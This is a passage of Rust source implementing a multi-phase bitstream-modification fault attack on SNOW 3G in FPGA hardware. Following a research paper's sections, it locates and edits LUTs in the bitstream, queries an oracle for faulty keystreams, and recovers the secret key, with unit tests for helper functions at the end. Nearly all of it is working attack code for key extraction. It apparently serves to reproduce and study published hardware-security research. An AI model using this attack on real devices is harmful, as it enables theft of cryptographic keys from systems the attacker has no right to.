        let keyindep_z = FaultySnow3g::new(Key([0; 4]), Iv([0; 4]), FaultSpec::key_independent())
            .keystream(self.words);
        let keyindep_bs = keyindep_bs.unwrap_or_else(|| {
            self.build_keyindep(&self.checkpoint.feedback_luts.clone(), &m1b_hits)
        });

        // Phase 5: pair disambiguation (two keystream computations).
        if self.checkpoint.phase == AttackPhase::PairDisambiguation {
            let _span = self.telemetry.span("phase:pair-disambiguation");
            self.disambiguate_pairs(&keyindep_bs)?;
            self.advance_phase(AttackPhase::KeyExtraction)?;
        }

        // Phase 6: inject α into a fresh copy and extract the key.
        let extract_span = self.telemetry.span("phase:key-extraction");
        let (alpha_bitstream, alpha_keystream) = self.extract()?;
        let recovered = recover_key(&alpha_keystream)?;
        drop(extract_span);

        // The attack is complete; the journal has served its purpose.
        // Removal is best-effort — a lingering file only costs a
        // redundant (successful) phase-6 replay if resumed again.
        if let Some(journal) = &self.journal {
            let _ = journal.remove();
        }

        Ok(AttackReport {
            candidate_counts,
            z_luts: self.checkpoint.z_luts.clone(),
            feedback_luts: self.checkpoint.feedback_luts.clone(),
            beta_edits: self.checkpoint.mux_halves.len(),
            dead_candidates: self.checkpoint.dead_candidates as usize,
            key_independent_keystream: keyindep_z,
            alpha_keystream,
            alpha_bitstream,
            recovered,
            oracle_loads: self.oracle.stats().attempts as usize,
            resilience: self.oracle.stats(),
        })
    }

    /// Phase 2: Section VI-C.1 — verify `f2` candidates by the
    /// stuck-bit signature. Iterates `candidates` from the checkpoint
    /// cursor, accumulating into `checkpoint.z_luts`; `count_dead`
    /// is set on the first pass only (the second pass revisits the
    /// same dead bytes).
    fn verify_z_path(
        &mut self,
        candidates: &[LutHit],
        count_dead: bool,
    ) -> Result<(), AttackError> {
        if self.batch > 1 {
            return self.verify_z_path_batched(candidates, count_dead);
        }
        while self.checkpoint.cursor < candidates.len() {
            let hit = candidates[self.checkpoint.cursor].clone();
            // Two valid LUTs cannot overlap in a bitstream
            // (Section VI-C): skip candidates clashing with verified
            // ones. Oracle-free, so no journal write on this path.
            let loc = hit.location(self.d);
            if self.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d))) {
                self.checkpoint.cursor += 1;
                continue;
            }
            let mut session = self.forge.session();
            session.write_function(&hit, TruthTable::zero(6));
            let bs = session.finish(CrcStrategy::Recompute);
            let z = self.run_oracle(&bs)?;
            match stuck_bit(&z, &self.golden_keystream) {
                Some(bit) => self.checkpoint.z_luts.push(ZPathLut { hit, bit, pair: None }),
                None => {
                    if count_dead && z == self.golden_keystream {
                        self.checkpoint.dead_candidates += 1;
                    }
                }
            }
            self.checkpoint.cursor += 1;
            self.save_journal()?;
        }
        Ok(())
    }

    /// Batched phase 2: same verdicts as the serial loop, issued up
    /// to `self.batch` queries per oracle call.
    ///
    /// Correctness of the greedy batch grouping: a candidate's *skip*
    /// decision depends only on overlap with LUTs verified before it.
    /// Within a batch, members are mutually non-overlapping (the
    /// batch closes at the first candidate touching a pending
    /// member's bytes), so no member's verification can change
    /// another member's skip status — the decisions computed up front
    /// equal the serial ones. Candidates overlapping an
    /// already-verified LUT are consumed as skips without a query,
    /// exactly as in the serial loop.
    fn verify_z_path_batched(
        &mut self,
        candidates: &[LutHit],
        count_dead: bool,
    ) -> Result<(), AttackError> {
        while self.checkpoint.cursor < candidates.len() {
            let (queries, end) = self.plan_batch(candidates.len(), |this, j| {
                let loc = candidates[j].location(this.d);
                if this.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(this.d))) {
                    BatchSlot::Skip
                } else {
                    BatchSlot::Query(loc)
                }
            });
            if queries.is_empty() {
                self.checkpoint.cursor = end;
                continue;
            }
            let bss: Vec<Bitstream> = queries
                .iter()
                .map(|&j| {
                    let mut session = self.forge.session();
                    session.write_function(&candidates[j], TruthTable::zero(6));
                    session.finish(CrcStrategy::Recompute)
                })
                .collect();
            let results = self.oracle.query_batch(&bss, self.words);
            for (&j, result) in queries.iter().zip(results) {
                self.checkpoint.cursor = j;
                let z = result.map_err(|e| self.attack_error(e))?;
                let hit = candidates[j].clone();
                match stuck_bit(&z, &self.golden_keystream) {
                    Some(bit) => self.checkpoint.z_luts.push(ZPathLut { hit, bit, pair: None }),
                    None => {
                        if count_dead && z == self.golden_keystream {
                            self.checkpoint.dead_candidates += 1;
                        }
                    }
                }
            }
            self.checkpoint.cursor = end;
            self.save_journal()?;
        }
        Ok(())
    }

    /// Greedy overlap-safe batch planner shared by the batched
    /// phases. Starting at the checkpoint cursor, classifies items
    /// via `classify` (which must depend only on state preceding the
    /// batch): skips are consumed inline, queries accumulate up to
    /// `self.batch` members, and the batch closes early at the first
    /// item whose bytes overlap a pending member — its outcome could
    /// depend on that member's verdict, so it belongs to the next
    /// batch. Returns the item indices to query and the cursor value
    /// after the batch.
    fn plan_batch(
        &self,
        len: usize,
        classify: impl Fn(&Self, usize) -> BatchSlot,
    ) -> (Vec<usize>, usize) {
        let mut queries: Vec<usize> = Vec::new();
        let mut pending: Vec<bitstream::LutLocation> = Vec::new();
        let mut j = self.checkpoint.cursor;
        while j < len && queries.len() < self.batch {
            match classify(self, j) {
                BatchSlot::Skip => {}
                BatchSlot::Query(loc) => {
                    if pending.iter().any(|p| loc.overlaps(p)) {
                        break;
                    }
                    queries.push(j);
                    pending.push(loc);
                }
            }
            j += 1;
        }
        (queries, j)
    }

    /// Phase 3: collect feedback-shape hits, pruning overlaps and
    /// dead bytes. Accumulates into `checkpoint.feedback_luts` from
    /// the checkpoint cursor over a deterministic flattened
    /// (shape, hit) list.
    fn feedback_hypothesis(
        &mut self,
        hits_by_shape: &HashMap<&'static str, Vec<LutHit>>,
        lattice: &SiteLattice,
    ) -> Result<(), AttackError> {
        let shapes: Vec<Shape> =
            self.catalogue.shapes.iter().filter(|s| s.role == Role::Feedback).cloned().collect();
        let mut items: Vec<(&'static str, LutHit)> = Vec::new();
        for shape in &shapes {
            for hit in hits_by_shape.get(shape.name).cloned().unwrap_or_default() {
                items.push((shape.name, hit));
            }
        }
        if self.batch > 1 {
            return self.feedback_hypothesis_batched(&items, lattice);
        }
        while self.checkpoint.cursor < items.len() {
            let (name, hit) = items[self.checkpoint.cursor].clone();
            let loc = hit.location(self.d);
            if !lattice.accepts_hit(&hit)
                || self.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d)))
                || self
                    .checkpoint
                    .feedback_luts
                    .iter()
                    .any(|f| loc.overlaps(&f.hit.location(self.d)))
            {
                self.checkpoint.cursor += 1;
                continue;
            }
            // Dead-byte pruning: a modification that does not change
            // the keystream hit filler bits.
            let mut session = self.forge.session();
            session.write_function(&hit, TruthTable::zero(6));
            let bs = session.finish(CrcStrategy::Recompute);
            let z = self.run_oracle(&bs)?;
            if z == self.golden_keystream {
                self.checkpoint.dead_candidates += 1;
            } else {
                self.checkpoint.feedback_luts.push(FeedbackLut { shape: name, hit });
            }
            self.checkpoint.cursor += 1;
            self.save_journal()?;
        }
        Ok(())
    }

    /// Batched phase 3: same verdicts as the serial loop (see
    /// [`Attack::verify_z_path_batched`] for the grouping argument —
    /// here the dynamic pruning state is `feedback_luts`, which also
    /// only grows by batch members' own locations).
    fn feedback_hypothesis_batched(
        &mut self,
        items: &[(&'static str, LutHit)],
        lattice: &SiteLattice,
    ) -> Result<(), AttackError> {
        while self.checkpoint.cursor < items.len() {
            let (queries, end) = self.plan_batch(items.len(), |this, j| {
                let hit = &items[j].1;
                let loc = hit.location(this.d);
                if !lattice.accepts_hit(hit)
                    || this.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(this.d)))
                    || this
                        .checkpoint
                        .feedback_luts
                        .iter()
                        .any(|f| loc.overlaps(&f.hit.location(this.d)))
                {
                    BatchSlot::Skip
                } else {
                    BatchSlot::Query(loc)
                }
            });
            if queries.is_empty() {
                self.checkpoint.cursor = end;
                continue;
            }
            let bss: Vec<Bitstream> = queries
                .iter()
                .map(|&j| {
                    let mut session = self.forge.session();
                    session.write_function(&items[j].1, TruthTable::zero(6));
                    session.finish(CrcStrategy::Recompute)
                })
                .collect();
            let results = self.oracle.query_batch(&bss, self.words);
            for (&j, result) in queries.iter().zip(results) {
                self.checkpoint.cursor = j;
                let z = result.map_err(|e| self.attack_error(e))?;
                let (name, hit) = items[j].clone();
                if z == self.golden_keystream {
                    self.checkpoint.dead_candidates += 1;
                } else {
                    self.checkpoint.feedback_luts.push(FeedbackLut { shape: name, hit });
                }
            }
            self.checkpoint.cursor = end;
            self.save_journal()?;
        }
        Ok(())
    }

    /// Builds the β + α₁ bitstream for a feedback-LUT subset, using
    /// the journalled load-mux halves (Section VI-D).
    fn build_keyindep(&self, feedback: &[FeedbackLut], m1b_hits: &[LutHit]) -> Bitstream {
        let mut session = self.forge.session();
        for f in feedback {
            let shape = self.catalogue.shape(f.shape).expect("catalogue shape");
            if let Some(ki) = shape.keyindep {
                session.write_function(&f.hit, ki);
            }
        }
        // s15 outer-byte γ=1 load-mux covers.
        let m1b = self.catalogue.shape("m1b").expect("m1b shape");
        for hit in m1b_hits {
            session.write_function(hit, m1b.keyindep.expect("m1b has keyindep"));
        }
        // Stage 0..14 γ=1 halves: (x ∨ y) → (x ∧ y), the role-free
        // load-0 form (see [`LoadMuxHalf`]).
        for h in &self.checkpoint.mux_halves {
            let (x, y) = h.pins;
            let edit = TruthTable::var(5, x).and(TruthTable::var(5, y));
            session.write_half(&h.hit, h.half, edit);
        }
        session.finish(CrcStrategy::Recompute)
    }

    /// Phase 4 pass 0: finds the γ=1 load-mux halves of stages
    /// `s0..s14`, accumulating into `checkpoint.mux_halves` from the
    /// checkpoint cursor.
    fn find_load_mux_halves(&mut self, lattice: &SiteLattice) -> Result<(), AttackError> {
        // Scan for LUTs with an OR-of-two-pins half, on the site
        // lattice learned from the verified LUTs. The lattice is a
        // pure position test, so applying it as a scan prefilter
        // skips the expensive sub-vector decode at off-lattice
        // positions; the serial loop's `accepts_hit` check below
        // still rejects hits whose *order* contradicts the lattice.
        let scanner = Scanner::builder().stride(self.d).build()?;
        let raw = scanner.scan_halves_where(
            &self.payload,
            0..self.payload.len(),
            |l| lattice.accepts(l),
            |o5, o6| or_pair(o5).is_some() || or_pair(o6).is_some(),
        );
        if self.batch > 1 && self.oracle.reorder_transparent() {
            return self.find_load_mux_halves_batched(lattice, &raw);
        }
        while self.checkpoint.cursor < raw.len() {
            let hit = raw[self.checkpoint.cursor].clone();
            let loc = hit.location(self.d);
            if !lattice.accepts_hit(&hit)
                || self.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d)))
                || self
                    .checkpoint
                    .feedback_luts
                    .iter()
                    .any(|f| loc.overlaps(&f.hit.location(self.d)))
            {
                self.checkpoint.cursor += 1;
                continue;
            }
            let mut queried = false;
            let mut found: Vec<LoadMuxHalf> = Vec::new();
            let halves = [hit.init.o5(), hit.init.o6_fractured()];
            for half in 0..2u8 {
                let Some((p, q)) = or_pair(halves[half as usize]) else { continue };
                // Skip duplicate views of bytes already claimed: the
                // same physical half can match under both sub-vector
                // orders when the lattice could not learn the slice
                // alternation; one edit suffices (both views write
                // the same reachable-row semantics).
                if self.checkpoint.mux_halves.iter().any(|h| h.half == half && h.hit.l == hit.l) {
                    continue;
                }
                // Null test: a genuine load mux is insensitive to
                // replacing (x ∨ y) by (x ⊕ y), because the control
                // and the shift-in are never 1 together on a real
                // device (c_load is high only in the first cycle,
                // when every shift-in is still at its power-up
                // value 0).
                queried = true;
                let mut session = self.forge.session();
                let xor = TruthTable::var(5, p).xor(TruthTable::var(5, q));
                session.write_half(&hit, half, xor);
                let z = self.run_oracle(&session.finish(CrcStrategy::Recompute))?;
                if z != self.golden_keystream {
                    continue; // a real OR gate elsewhere in the design
                }
                // Liveness: forcing the half to 0 must disturb the
                // keystream, otherwise these are dead filler bytes.
                let mut session = self.forge.session();
                session.write_half(&hit, half, TruthTable::zero(5));
                let z = self.run_oracle(&session.finish(CrcStrategy::Recompute))?;
                if z == self.golden_keystream {
                    self.checkpoint.dead_candidates += 1;
                    break; // dead filler: skip the hit's remaining half
                }
                found.push(LoadMuxHalf { hit: hit.clone(), half, pins: (p, q) });
            }
            // The whole hit is one journal item: its half edits and
            // the dead verdict land in the checkpoint atomically with
            // the cursor advance, before any state is persisted.
            self.checkpoint.mux_halves.extend(found);
            self.checkpoint.cursor += 1;
            if queried {
                self.save_journal()?;
            }
        }
        Ok(())
    }

    /// Batched load-mux scan: drives each hit's sequential decision
    /// chain (XOR null test → zero liveness test, per half) as a
    /// rolling wavefront — every round batches each in-flight hit's
    /// *next* query into one oracle call, and finished hits free
    /// their lane for the next pending hit immediately.
    ///
    /// Unlike the other batched phases this reorders queries relative
    /// to the serial loop (hit A's second query rides alongside hit
    /// B's first), so it is only taken when the oracle is order-free
    /// — `ResilientOracle::reorder_transparent` — and noisy
    /// configurations keep the serial path (whose batches the planned
    /// path makes fault-exact without reordering).
    /// The query *set* is unchanged: every hit runs the same chain
    /// with the same verdicts as the serial loop, because
    ///
    /// - the accept/reject filter reads only state this phase never
    ///   writes (the lattice, `z_luts`, `feedback_luts`), so it is
    ///   static and precomputable, and
    /// - the only cross-hit dependency — the duplicate-claim skip,
    ///   which compares byte offsets `l` — is confined to same-`l`
    ///   hits, and a hit is admitted only once every earlier same-`l`
    ///   hit has finished (later different-`l` hits may overtake it).
    ///
    /// Verdicts commit to the checkpoint strictly in serial hit
    /// order; a mid-flight oracle error rewinds the cursor to the
    /// first uncommitted hit so a resumed run redoes everything past
    /// the committed prefix.
    fn find_load_mux_halves_batched(
        &mut self,
        lattice: &SiteLattice,
        raw: &[LutHit],
    ) -> Result<(), AttackError> {
        // The static accept filter, applied once up front.
        let accepted: Vec<usize> = (self.checkpoint.cursor..raw.len())
            .filter(|&j| {
                let hit = &raw[j];
                let loc = hit.location(self.d);
                lattice.accepts_hit(hit)
                    && !self.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d)))
                    && !self
                        .checkpoint
                        .feedback_luts
                        .iter()
                        .any(|f| loc.overlaps(&f.hit.location(self.d)))
            })
            .collect();
        if accepted.is_empty() {
            self.checkpoint.cursor = raw.len();
            return Ok(());
        }

        // Per-hit state machine, identical to one serial loop body.
        // `half` and `stage` name the next query to issue; `pos`
        // indexes `accepted`.
        enum Stage {
            Xor,
            Zero,
        }
        struct HitState {
            pos: usize,
            half: u8,
            pins: (u8, u8),
            stage: Stage,
            found: Vec<LoadMuxHalf>,
            dead: bool,
            done: bool,
        }
        // (half, l) pairs already claimed — the serial loop's
        // duplicate-view check against `checkpoint.mux_halves`,
        // extended as hits finish. A same-`l` successor is admitted
        // only after its predecessors finished, so its claim check
        // reads exactly the mid-serial-walk state.
        let mut claimed: Vec<(u8, usize)> =
            self.checkpoint.mux_halves.iter().map(|h| (h.half, h.hit.l)).collect();
        let advance = |claimed: &[(u8, usize)], state: &mut HitState, from: u8| {
            let hit = &raw[accepted[state.pos]];
            let halves = [hit.init.o5(), hit.init.o6_fractured()];
            for half in from..2u8 {
                let Some((p, q)) = or_pair(halves[half as usize]) else { continue };
                if claimed.contains(&(half, hit.l)) {
                    continue;
                }
                state.half = half;
                state.pins = (p, q);
                state.stage = Stage::Xor;
                return;
            }
            state.done = true;
        };

        let mut pending: Vec<usize> = (0..accepted.len()).collect();
        let mut inflight: Vec<HitState> = Vec::new();
        let mut completed: Vec<Option<HitState>> = (0..accepted.len()).map(|_| None).collect();
        let mut frontier = 0usize;
        while frontier < accepted.len() {
            // Admit pending hits into free lanes, in order; a hit
            // sharing `l` with an unfinished predecessor holds that
            // `l` — and every later same-`l` hit — back while
            // different-`l` hits may overtake it.
            let mut busy: Vec<usize> = inflight.iter().map(|s| raw[accepted[s.pos]].l).collect();
            let mut rest: Vec<usize> = Vec::new();
            for &pos in &pending {
                let l = raw[accepted[pos]].l;
                if inflight.len() >= self.batch || busy.contains(&l) {
                    busy.push(l);
                    rest.push(pos);
                    continue;
                }
                busy.push(l);
                let mut state = HitState {
                    pos,
                    half: 0,
                    pins: (0, 0),
                    stage: Stage::Xor,
                    found: Vec::new(),
                    dead: false,
                    done: false,
                };
                advance(&claimed, &mut state, 0);
                if state.done {
                    // No queryable half: finished without a lane.
                    completed[pos] = Some(state);
                } else {
                    inflight.push(state);
                }
            }
            pending = rest;

            // One oracle call carrying every in-flight hit's next
            // query.
            if !inflight.is_empty() {
                let bss: Vec<Bitstream> = inflight
                    .iter()
                    .map(|state| {
                        let (p, q) = state.pins;
                        let table = match state.stage {
                            Stage::Xor => TruthTable::var(5, p).xor(TruthTable::var(5, q)),
                            Stage::Zero => TruthTable::zero(5),
                        };
                        let mut session = self.forge.session();
                        session.write_half(&raw[accepted[state.pos]], state.half, table);
                        session.finish(CrcStrategy::Recompute)
                    })
                    .collect();
                let results = self.oracle.query_batch(&bss, self.words);
                for (state, result) in inflight.iter_mut().zip(results) {
                    let z = match result {
                        Ok(z) => z,
                        Err(e) => {
                            // Rewind to the first uncommitted hit so
                            // a resumed run redoes everything past
                            // the committed prefix.
                            self.checkpoint.cursor = accepted[frontier];
                            return Err(self.attack_error(e));
                        }
                    };
                    let half = state.half;
                    match state.stage {
                        Stage::Xor => {
                            if z != self.golden_keystream {
                                // A real OR gate elsewhere in the
                                // design: try the other half.
                                advance(&claimed, state, half + 1);
                            } else {
                                state.stage = Stage::Zero;
                            }
                        }
                        Stage::Zero => {
                            if z == self.golden_keystream {
                                // Dead filler: skip the hit's
                                // remaining half.
                                state.dead = true;
                                state.done = true;
                            } else {
                                let hit = raw[accepted[state.pos]].clone();
                                state.found.push(LoadMuxHalf { hit, half, pins: state.pins });
                                advance(&claimed, state, half + 1);
                            }
                        }
                    }
                }
                // Retire finished hits: their claims become visible
                // to same-`l` successors before any can be admitted.
                let mut i = 0;
                while i < inflight.len() {
                    if inflight[i].done {
                        let state = inflight.swap_remove(i);
                        for h in &state.found {
                            claimed.push((h.half, h.hit.l));
                        }
                        let pos = state.pos;
                        completed[pos] = Some(state);
                    } else {
                        i += 1;
                    }
                }
            }

            // Commit the finished prefix in serial hit order, then
            // persist once per round.
            let mut committed_any = false;
            while let Some(slot) = completed.get_mut(frontier) {
                let Some(state) = slot.take() else { break };
                if state.dead {
                    self.checkpoint.dead_candidates += 1;
                }
                self.checkpoint.mux_halves.extend(state.found);
                self.checkpoint.cursor = accepted[frontier] + 1;
                frontier += 1;
                committed_any = true;
            }
            if frontier == accepted.len() {
                self.checkpoint.cursor = raw.len();
            }
            if committed_any {
                self.save_journal()?;
            }
        }
        Ok(())
    }

    /// Phase 4 pass 1: Section VI-D — β + α₁, validated against the
    /// key-independent keystream computed with the public software
    /// model. When more feedback candidates than the 32 required by
    /// SNOW 3G's word width survive pruning, the true subset is
    /// selected by hypothesis testing — the paper's Section VI-C.2
    /// move ("the sum of matches ... is 32 ... we make a
    /// hypothesis"). The checkpoint cursor walks the deterministic
    /// drop-set enumeration.
    fn select_feedback_subset(
        &mut self,
        m1b_hits: &[LutHit],
    ) -> Result<(Vec<FeedbackLut>, Bitstream), AttackError> {
        // Expected keystream: the attacker simulates the public
        // algorithm with an all-0 LFSR and the FSM disconnected
        // during initialization (Section VI-D, Table III).
        let expected = FaultySnow3g::new(Key([0; 4]), Iv([0; 4]), FaultSpec::key_independent())
            .keystream(self.words);
        let fb_candidates = self.checkpoint.feedback_luts.clone();
        let n = fb_candidates.len();
        if n < 32 {
            return Err(AttackError::KeyIndependentMismatch);
        }
        let drop_count = n - 32;
        let mut drop_sets = subsets(n, drop_count);
        if drop_sets.len() > 20_000 {
            drop_sets.truncate(20_000);
        }
        while self.checkpoint.cursor < drop_sets.len() {
            let drops = &drop_sets[self.checkpoint.cursor];
            let feedback: Vec<FeedbackLut> = fb_candidates
                .iter()
                .enumerate()
                .filter(|(i, _)| !drops.contains(i))
                .map(|(_, f)| f.clone())
                .collect();
            let bs = self.build_keyindep(&feedback, m1b_hits);
            let z = self.run_oracle(&bs)?;
            if z == expected {
                // The cursor still points at the matching drop set;
                // the caller's phase advance persists the selection.
                // (Journalling `cursor + 1` here instead would make a
                // crash-resumed run skip past the match and never
                // converge.)
                return Ok((feedback, bs));
            }
            if std::env::var_os("BITMOD_DEBUG").is_some() {
                eprintln!("[keyindep] drops={drops:?} got {:08x?}", &z[..2]);
            }
            self.checkpoint.cursor += 1;
            self.save_journal()?;
        }
        Err(AttackError::KeyIndependentMismatch)
    }

    /// Phase 5: Section VI-D.1 — two keystream computations resolve
    /// every keystream-path LUT's `v` input pair. The checkpoint
    /// cursor walks the f2 fault variants; the observed stuck-bit
    /// masks are journalled so a resumed run re-queries only the
    /// variants it has not yet seen.
    fn disambiguate_pairs(&mut self, keyindep: &Bitstream) -> Result<(), AttackError> {
        let f2 = self.catalogue.shape("f2").expect("f2 shape").clone();
        let variant_bs = |this: &Self, variant: &crate::candidates::PairVariant| {
            let mut session = EditSession::new(keyindep, this.d);
            for z in &this.checkpoint.z_luts {
                session.write_function(&z.hit, variant.faulted);
            }
            session.finish(CrcStrategy::Recompute)
        };
        // Both variant bitstreams derive from the same static inputs
        // (the key-independent image and the verified LUT list), so
        // from a fresh phase they batch as one two-query oracle call.
        // A mid-phase resume (cursor 1) queries the remainder
        // serially below.
        if self.batch > 1 && self.checkpoint.cursor == 0 {
            let bss: Vec<Bitstream> =
                f2.variants[..2].iter().map(|v| variant_bs(self, v)).collect();
            let results = self.oracle.query_batch(&bss, self.words);
            for (j, result) in results.into_iter().enumerate() {
                self.checkpoint.cursor = j;
                let zs = result.map_err(|e| self.attack_error(e))?;
                let mut mask = u32::MAX;
                for w in &zs {
                    mask &= !w;
                }
                self.checkpoint.stuck_masks.push(mask); // bit set ⇒ all-0
            }
            self.checkpoint.cursor = 2;
            self.save_journal()?;
        }
        while self.checkpoint.cursor < 2 {
            let bs = variant_bs(self, &f2.variants[self.checkpoint.cursor]);
            let zs = self.run_oracle(&bs)?;
            let mut mask = u32::MAX;
            for w in &zs {
                mask &= !w;
            }
            self.checkpoint.stuck_masks.push(mask); // bit set ⇒ all-0
            self.checkpoint.cursor += 1;
            self.save_journal()?;
        }
        // Pure computation over the journalled masks — idempotent, so
        // replaying it on resume is harmless.
        let stuck = self.checkpoint.stuck_masks.clone();
        for z in &mut self.checkpoint.z_luts {
            let bit = z.bit;
            let pair = if (stuck[0] >> bit) & 1 == 1 {
                f2.variants[0].pair
            } else if (stuck[1] >> bit) & 1 == 1 {
                f2.variants[1].pair
            } else {
                f2.variants[2].pair
            };
            z.pair = Some(pair);
        }
        Ok(())
    }

    /// Phase 6: inject the full `α` (keystream-path `α₂` with the
    /// resolved pairs + feedback-path `α₁`) into a fresh copy of the
    /// golden bitstream, and read the faulty keystream.
    fn extract(&mut self) -> Result<(Bitstream, Vec<u32>), AttackError> {
        let f2 = self.catalogue.shape("f2").expect("f2 shape").clone();
        let bs = {
            let mut session = self.forge.session();
            for z in &self.checkpoint.z_luts {
                let pair = z.pair.ok_or(AttackError::PairUnresolved { bit: z.bit })?;
                let variant = f2
                    .variants
                    .iter()
                    .find(|v| v.pair == pair)
                    .ok_or(AttackError::PairUnresolved { bit: z.bit })?;
                session.write_function(&z.hit, variant.faulted);
            }
            for f in &self.checkpoint.feedback_luts {
                let shape = self.catalogue.shape(f.shape).expect("catalogue shape");
                if let Some(alpha) = shape.alpha {
                    session.write_function(&f.hit, alpha);
                }
            }
            session.finish(CrcStrategy::Recompute)
        };
        let z = self.run_oracle(&bs)?;
        Ok((bs, z))
    }
}

/// How the batch planner treats one work item.
enum BatchSlot {
    /// Consumed without an oracle query (pruned by the overlap or
    /// lattice rules against pre-batch state).
    Skip,
    /// Queried; carries the bytes the edit touches, for closing the
    /// batch before any intra-batch overlap.
    Query(bitstream::LutLocation),
}

/// Enumerates all `k`-element subsets of `0..n` (ascending index
/// sets), smallest-lexicographic first.
fn subsets(n: usize, k: usize) -> Vec<Vec<usize>> {
    let mut out = Vec::new();
    let mut cur: Vec<usize> = (0..k).collect();
    if k == 0 {
        return vec![Vec::new()];
    }
    if k > n {
        return out;
    }
    loop {
        out.push(cur.clone());
        // Advance to the next combination.
        let mut i = k;
        loop {
            if i == 0 {
                return out;
            }
            i -= 1;
            if cur[i] != i + n - k {
                break;
            }
            if i == 0 {
                return out;
            }
        }
        cur[i] += 1;
        for j in i + 1..k {
            cur[j] = cur[j - 1] + 1;
        }
    }
}

/// Checks the Section VI-C.1 signature: exactly one keystream bit is
/// stuck at 0 while every other bit matches the golden keystream.
/// Returns the stuck bit.
#[must_use]
pub fn stuck_bit(z: &[u32], golden: &[u32]) -> Option<u8> {
    if z.len() != golden.len() || z.is_empty() {
        return None;
    }
    let mut all_zero = u32::MAX;
    let mut differs = 0u32;
    for (a, b) in z.iter().zip(golden) {
        all_zero &= !a;
        differs |= a ^ b;
    }
    // The stuck bit must be all-zero now, must have been live in the
    // golden keystream, and must be the only differing bit.
    let golden_live = {
        let mut live = 0u32;
        for w in golden {
            live |= w;
        }
        live
    };
    let candidates = all_zero & golden_live & differs;
    if candidates.count_ones() == 1 && differs == candidates {
        Some(candidates.trailing_zeros() as u8)
    } else {
        None
    }
}

/// Recognises a 5-variable half that is exactly `x ∨ y` for a pin
/// pair `(x, y)`; returns the (1-based) pair.
fn or_pair(t: TruthTable) -> Option<(u8, u8)> {
    let support = t.support();
    if support.count_ones() != 2 {
        return None;
    }
    let x = support.trailing_zeros() as u8 + 1;
    let y = 8 - support.leading_zeros() as u8;
    let want = TruthTable::var(5, x).or(TruthTable::var(5, y));
    (t == want).then_some((x, y))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stuck_bit_detects_single_dead_bit() {
        let golden = vec![0xFFFF_FFFFu32; 4];
        let z: Vec<u32> = golden.iter().map(|w| w & !(1 << 7)).collect();
        assert_eq!(stuck_bit(&z, &golden), Some(7));
    }

    #[test]
    fn stuck_bit_rejects_multiple_changes() {
        let golden = vec![0xFFFF_FFFFu32; 4];
        let z: Vec<u32> = golden.iter().map(|w| w & !(1 << 7) & !(1 << 9)).collect();
        assert_eq!(stuck_bit(&z, &golden), None);
    }

    #[test]
    fn stuck_bit_rejects_unchanged() {
        let golden = vec![0x1234_5678u32; 4];
        assert_eq!(stuck_bit(&golden, &golden), None);
    }

    #[test]
    fn stuck_bit_requires_live_golden_bit() {
        // If the golden keystream never had that bit set, it carries
        // no information.
        let golden = vec![0xFFFF_FFFEu32; 4];
        let z = golden.clone();
        assert_eq!(stuck_bit(&z, &golden), None);
    }

    #[test]
    fn lattice_inference_and_acceptance() {
        use bitstream::SubVectorOrder::{SliceL, SliceM};
        // True sites: frames 0, 12, 24 (modulus 12), even offsets,
        // alternating orders by column parity.
        let d = 404usize;
        let samples: Vec<(usize, bitstream::SubVectorOrder)> = vec![
            (10, SliceL),
            (44, SliceL),
            (12 * d + 8, SliceM),
            (12 * d + 70, SliceM),
            (24 * d + 2, SliceL),
        ];
        let lat = SiteLattice::infer(&samples, d);
        assert!(lat.accepts(12 * d + 100));
        assert!(!lat.accepts(13 * d + 100), "off-lattice frame rejected");
        assert!(!lat.accepts(12 * d + 101), "odd offset rejected");
        assert!(lat.accepts_order(0, SliceL));
        assert!(!lat.accepts_order(0, SliceM));
        assert!(lat.accepts_order(12 * d, SliceM));
    }

    #[test]
    fn lattice_tolerates_outliers() {
        use bitstream::SubVectorOrder::SliceL;
        let d = 404usize;
        // Nine aligned samples and one misaligned (frame 7).
        let mut samples: Vec<(usize, bitstream::SubVectorOrder)> =
            (0..9).map(|i| (i * 12 * d + 2 * i, SliceL)).collect();
        samples.push((7 * d + 6, SliceL));
        let lat = SiteLattice::infer(&samples, d);
        assert!(lat.accepts(36 * d), "true sites still accepted");
        assert!(!lat.accepts(7 * d + 6), "the outlier itself is rejected");
    }

    #[test]
    fn lattice_tolerates_parity_outliers() {
        use bitstream::SubVectorOrder::SliceL;
        let d = 404usize;
        // Nine even-offset samples and one odd-offset coincidence: a
        // single misaligned window that verified by accident must not
        // disable the lattice (it once did, leaving the d=101 family
        // with 39 feedback candidates and an intractable drop search).
        let mut samples: Vec<(usize, bitstream::SubVectorOrder)> =
            (0..9).map(|i| (i * 4 * d + 2 * i, SliceL)).collect();
        samples.push((7 * d + 9, SliceL));
        let lat = SiteLattice::infer(&samples, d);
        assert!(lat.accepts(16 * d + 2), "true sites still accepted");
        assert!(!lat.accepts(16 * d + 3), "odd offsets rejected");
        assert!(!lat.accepts(7 * d + 9), "the parity outlier itself is rejected");
    }

    #[test]
    fn lattice_degrades_gracefully() {
        use bitstream::SubVectorOrder::SliceL;
        // A single sample gives no stride information: permissive.
        let lat = SiteLattice::infer(&[(808, SliceL)], 404);
        assert!(lat.accepts(808));
        assert!(lat.accepts(1212));
        // Mixed parity disables everything.
        let lat = SiteLattice::infer(&[(0, SliceL), (1, SliceL)], 404);
        assert!(lat.accepts(3));
        // No samples at all.
        let lat = SiteLattice::infer(&[], 404);
        assert!(lat.accepts(12345));
    }

    #[test]
    fn subsets_enumeration() {
        assert_eq!(subsets(4, 0), vec![Vec::<usize>::new()]);
        assert_eq!(subsets(3, 3), vec![vec![0, 1, 2]]);
        let two_of_four = subsets(4, 2);
        assert_eq!(two_of_four.len(), 6);
        assert_eq!(two_of_four[0], vec![0, 1]);
        assert_eq!(two_of_four[5], vec![2, 3]);
        assert!(subsets(2, 3).is_empty());
    }

    #[test]
    fn or_pair_recognition() {
        let t = TruthTable::var(5, 2).or(TruthTable::var(5, 5));
        assert_eq!(or_pair(t), Some((2, 5)));
        let not_or = TruthTable::var(5, 2).xor(TruthTable::var(5, 5));
        assert_eq!(or_pair(not_or), None);
        let three = t.or(TruthTable::var(5, 1));
        assert_eq!(or_pair(three), None);
    }
